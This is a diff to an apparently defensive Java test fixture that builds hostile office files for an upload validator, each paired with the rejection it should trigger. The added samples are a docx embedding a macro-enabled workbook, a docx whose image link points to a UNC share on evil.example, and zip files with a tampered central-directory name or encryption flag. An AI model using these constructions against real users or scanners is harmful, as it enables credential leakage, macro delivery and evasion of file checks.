@@ -304,6 +304,16 @@ public final class HostileFiles {
 						+ "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" "
 						+ "Target=\"mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html\" TargetMode=\"External\"/></Relationships>"))),
 				FileRejection.MACROS));
+		all.add(new Sample("docx-embedded-xlsm", "rapport.docx",
+				ooxml("word/document.xml", WORD_MAIN,
+						entry("word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm", xlsx())),
+				FileRejection.MACROS));
+		all.add(new Sample("docx-unc-image", "rapport.docx", ooxml("word/document.xml", WORD_MAIN, entry(
+				"word/_rels/document.xml.rels",
+				ascii("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+						+ "<Relationship Id=\"rId7\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" "
+						+ "Target=\"\\\\evil.example\\share\\pixel.png\" TargetMode=\"External\"/></Relationships>"))),
+				FileRejection.MACROS));
 		all.add(new Sample("odt-basic-macro", "courrier.odt", odf("application/vnd.oasis.opendocument.text",
 				List.of("Basic/Standard/Module1.xml", "Basic/script-lc.xml"),
 				entry("Basic/Standard/Module1.xml", ascii(
@@ -342,6 +352,9 @@ public final class HostileFiles {
 				FileRejection.HIDDEN_CONTENT));
 		all.add(new Sample("docx-then-html", "rapport.docx", concat(docx(), ascii(HTML)),
 				FileRejection.HIDDEN_CONTENT));
+		all.add(new Sample("central-directory-disagrees", "rapport.docx", centralNamePatched(),
+				FileRejection.HIDDEN_CONTENT));
+		all.add(new Sample("zip-encrypted-entry", "rapport.docx", centralFlagPatched(), FileRejection.ENCRYPTED));
 		all.add(new Sample("docx-renamed-xlsx", "budget.xlsx", docx(), FileRejection.CONTENT_MISMATCH));
 		all.add(new Sample("odt-renamed-docx", "courrier.docx",
 				odf("application/vnd.oasis.opendocument.text", List.of()), FileRejection.CONTENT_MISMATCH));
@@ -458,6 +471,40 @@ public final class HostileFiles {
 				+ "</manifest:encryption-data></manifest:file-entry></manifest:manifest>";
 		return zip(new Entry("mimetype", ascii("application/vnd.oasis.opendocument.text"), true),
 				entry("META-INF/manifest.xml", utf8(manifest)), entry("content.xml", new byte[900]));
+	}
+
+	/**
+	 * A docx whose central directory (what office suites read) names its main part
+	 * otherwise than its local header (what a streaming reader sees).
+	 */
+	private static byte[] centralNamePatched() {
+		byte[] docx = docx();
+		int at = lastIndexOf(docx, ascii("word/document.xml"));
+		docx[at + 12] = 'X';
+		return docx;
+	}
+
+	/** A docx whose central directory marks its first entry as encrypted. */
+	private static byte[] centralFlagPatched() {
+		byte[] docx = docx();
+		int at = lastIndexOf(docx, new byte[] { 'P', 'K', 1, 2 });
+		while (at > 0 && lastIndexOf(java.util.Arrays.copyOf(docx, at), new byte[] { 'P', 'K', 1, 2 }) >= 0) {
+			at = lastIndexOf(java.util.Arrays.copyOf(docx, at), new byte[] { 'P', 'K', 1, 2 });
+		}
+		docx[at + 8] |= 1;
+		return docx;
+	}
+
+	private static int lastIndexOf(byte[] haystack, byte[] needle) {
+		outer: for (int i = haystack.length - needle.length; i >= 0; i--) {
+			for (int j = 0; j < needle.length; j++) {
+				if (haystack[i + j] != needle[j]) {
+					continue outer;
+				}
+			}
+			return i;
+		}
+		return -1;
 	}
 
 	private static byte[] manyEntriesDocx(int count) {
